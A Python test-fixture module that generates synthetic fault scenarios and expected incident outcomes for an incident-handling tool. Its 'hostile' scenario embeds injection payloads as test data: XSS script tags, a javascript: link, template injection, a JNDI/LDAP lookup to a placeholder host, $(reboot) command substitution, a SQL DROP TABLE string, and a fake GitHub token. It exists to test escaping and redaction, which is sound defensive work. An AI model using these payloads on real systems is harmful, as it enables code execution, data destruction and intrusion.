"""The single faults of a night: each has one thing that a tool for incidents may get wrong."""

from collections.abc import Sequence
from random import Random
from string import ascii_letters, digits

from faultbook_samples.nights.messages import (
    azure_alert,
    backup_report,
    job_notification,
    script_report,
    shop_error,
)
from faultbook_samples.nights.truth import Decided, Expected, Plot, minute


def flapping(rng: Random) -> Plot:
    """A job that fails once in each of five spans, with three good runs in between."""
    story, job = "a job flaps", "sync customers"
    plot, events = Plot(), set[str]()
    run_id = 810_000
    for failing, good in (
        (10, ()),
        (62, (35, 45, 52)),
        (108, (80, 90, 98)),
        (152, (124, 134, 144)),
        (202, (172, 182, 190)),
    ):
        for at in good:
            run_id += 1
            plot.arrive(minute(at + rng.random()), job_notification("on_success", job, run_id), story)
        run_id += 1
        events.update(plot.arrive(minute(failing + rng.random()), job_notification("on_failure", job, run_id), story))
    for at in (215, 228, 240):
        run_id += 1
        plot.arrive(minute(at + rng.random()), job_notification("on_success", job, run_id), story)
    plot.incidents.append(
        Expected("flapping", story, frozenset(events), len(events), "high", reopened=3, is_flapping=True)
    )
    return plot


def returning(rng: Random) -> Plot:
    """An error that a person resolves in 2.5.0; older builds go on with it, and 2.5.1 has it again."""
    story, error = "a fixed error returns", {"type": "KeyError", "message": "KeyError: 'currency'"}
    spans = [(5, "2.4.0"), (12, "2.4.0"), (20, "2.4.0"), (100, "2.4.0"), (110, "2.3.9"), (230, "2.5.1"), (241, "2.5.1")]
    plot, events = _errors(rng, "orders", error, spans, story)
    plot.decisions.append(
        Decided(minute(78), "returns", "resolve", "ana", "the currency has a default", {"build": "2.5.0"})
    )
    plot.incidents.append(Expected("returns", story, events, len(events), "high", reopened=1))
    return plot


def old_build(rng: Random) -> Plot:
    """An error that a person resolves in 1.9.1; only builds before it have it afterwards."""
    story, error = "an old build goes on", {"type": "ValueError", "message": "ValueError: no tax rate for this country"}
    plot, events = _errors(
        rng, "invoices", error, [(8, "1.9.0"), (15, "1.9.0"), *((at, "1.9.0") for at in (128, 141, 200))], story
    )
    plot.decisions.append(
        Decided(minute(78.5), "old build", "resolve", "ana", "rates are complete", {"build": "1.9.1"})
    )
    plot.incidents.append(Expected("old build", story, events, len(events), "high", "resolved", "person"))
    return plot


def late(rng: Random) -> Plot:
    """An error that is resolved; one from before that arrives an hour later."""
    story, error = "an event comes late", {"type": "TimeoutError", "message": "TimeoutError: the index did not answer"}
    plot, events = _errors(rng, "search", error, [(18, None)], story)
    message = shop_error(rng.randrange(10**6), "search", minute(50 + rng.random()), error)
    events |= frozenset(plot.arrive(minute(180 + rng.random()), message, story))
    plot.decisions.append(Decided(minute(123), "late", "resolve", "eva", "the index is back"))
    plot.incidents.append(Expected("late", story, events, 2, "high", "resolved", "person", late=1))
    return plot


def muted(rng: Random) -> Plot:
    """An error that a person mutes, because it cannot be mended before the morning."""
    story, error = (
        "a fault is muted",
        {"type": "OSError", "message": "OSError: the supplier's store of pictures is closed"},
    )
    plot, events = _errors(rng, "thumbnails", error, [(at, None) for at in (25, 50, 90, 130, 190, 300)], story)
    plot.decisions.append(Decided(minute(33), "muted", "mute", "eva", "the supplier opens at nine"))
    plot.incidents.append(Expected("muted", story, events, len(events), "high", is_muted=True))
    return plot


def hostile(rng: Random) -> Plot:
    """An error whose text attacks whatever shows it, is far too long, and contains what looks like a token."""
    story = "a hostile text"
    token = "ghp_" + "".join(rng.choices(ascii_letters + digits, k=36))
    text = (
        f"</td><script>alert(1)</script> @channel @everyone <!here> [x](javascript:alert(1)) {{{{7*7}}}} "
        f"${{jndi:ldap://h/a}} {{% include 'secrets' %}} $(reboot) '; DROP TABLE incidents; -- "
        f"\u202e\u0000 authorization: {token} "
    )
    error = {"type": "<b>Error</b>", "message": text + "A" * 40_000, "stack": f"at {text}\n" * 200}
    plot, events = _errors(rng, "gateway", error, [(135, None), (148, None)], story)
    plot.secrets.append(token)
    plot.incidents.append(Expected("hostile", story, events, 2, "high"))
    return plot


def recovering(rng: Random) -> Plot:
    """An alert that fires and ends by itself."""
    story, identity = "an alert ends", f"{rng.randrange(16**12):012x}"
    plot, fired = Plot(), minute(40 + rng.random())
    [event] = plot.arrive(minute(42), azure_alert("vm-search-cpu", identity, fired, "Sev2"), story)
    ended = minute(100 + rng.random())
    plot.arrive(minute(102), azure_alert("vm-search-cpu", identity, fired, "Sev2", ended=ended), story)
    plot.incidents.append(Expected("recovering", story, frozenset({event}), 1, "medium", "resolved", "recovered"))
    return plot


def repeated(rng: Random) -> Plot:
    """An alert that its sender delivers six times."""
    story, identity = "one webhook six times", f"{rng.randrange(16**12):012x}"
    plot = Plot()
    message = azure_alert("sql-shop-storage", identity, minute(139 + rng.random()), "Sev1")
    [event] = plot.arrive(minute(141), message, story, times=6)
    plot.incidents.append(Expected("repeated", story, frozenset({event}), 1, "high"))
    return plot


def silent(rng: Random) -> Plot:
    """A backup that fails and reports nothing more, and a script after which nobody sends anything: both stay open."""
    story = "a source is silent"
    plot = Plot()
    for number, at in enumerate((6, 20)):
        plot.arrive(minute(at + rng.random()), backup_report(number, minute(at)), story)
    failing = backup_report(9, minute(36), "No space left on the backup volume")
    [event] = plot.arrive(minute(36.5), failing, story)
    last = minute(405 + rng.random())
    [other] = plot.arrive(minute(408), script_report("rotate_keys", 1, last, "The vault refused the new key"), story)
    plot.incidents += [
        Expected("silent backup", story, frozenset({event}), 1, "high"),
        Expected("last message", story, frozenset({other}), 1, "low"),
    ]
    return plot


def retries(rng: Random) -> Plot:
    """Retries: seven in nine minutes cross a threshold; one alone, seven in an hour and two without a group do not."""
    story, error = "retries", {"type": "Retry", "message": "the bank did not answer in time"}
    plot, number = Plot(), rng.randrange(10**5)

    def retried(at: float, environment: str | None) -> set[str]:
        nonlocal number
        number += 1
        message = shop_error(number, "payments", minute(at), error, environment=environment, status="retried")
        return set(plot.arrive(minute(at + 0.3), message, story))

    crossing = {event for at in range(7) for event in retried(158 + at * 1.4 + rng.random() * 0.3, "prod")}
    alone = retried(60 + rng.random(), "prod")
    spread = (138, 140.5, 143, 146, 225, 226, 227)
    below = {event for at in spread for event in retried(at + rng.random() * 0.5, "staging")}
    for at in (70, 71):
        plot.without_group |= retried(at, None)
    plot.below |= alone | below
    plot.incidents.append(
        Expected("many retries", story, frozenset(crossing | alone), len(crossing), "medium", is_threshold=True)
    )
    return plot


def _errors(
    rng: Random, service: str, error: dict[str, str], times: Sequence[tuple[int, str | None]], story: str
) -> tuple[Plot, frozenset[str]]:
    """An error of a service at some minutes, each with the build that had it; and the ids of the failures."""
    plot, first = Plot(), rng.randrange(10**6)
    events = set[str]()
    for number, (at, version) in enumerate(times):
        happened = at + rng.random()
        message = shop_error(first + number, service, minute(happened), error, version=version)
        events.update(plot.arrive(minute(happened + 0.2), message, story))
    return plot, frozenset(events)
